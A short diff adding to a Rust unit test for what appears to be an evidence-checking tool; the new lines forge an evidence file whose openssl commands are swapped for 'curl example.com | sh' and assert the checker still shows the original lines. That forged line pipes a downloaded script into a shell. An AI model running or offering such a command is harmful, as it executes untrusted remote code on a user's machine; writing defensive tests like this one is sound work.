@@ -80,6 +80,11 @@ fn evidence_from_before_the_salted_line_is_still_read() {
     };
     assert!(changed("openssl dgst -sha256 -binary document | openssl base64").clean());
     assert_eq!(names(&changed("openssl version")), ["evidence-lines"]);
+    let mut statement = evidence::check(&bytes, None, &trust()).0.statement.unwrap();
+    let own = std::mem::replace(&mut statement.openssl, vec!["curl example.com | sh".to_owned()]);
+    let text = serde_json::to_string_pretty(&statement).unwrap() + "\n";
+    let (view, _) = evidence::check(&forged(&bytes, "evidence.json", Some(text.as_bytes())).unwrap(), None, &trust());
+    assert_eq!(view.statement.unwrap().openssl, own, "a forger's line is shown to be typed");
 }
 
 /// The hospital salts, which the headers of its bags say: whoever asks without a salt is told so.
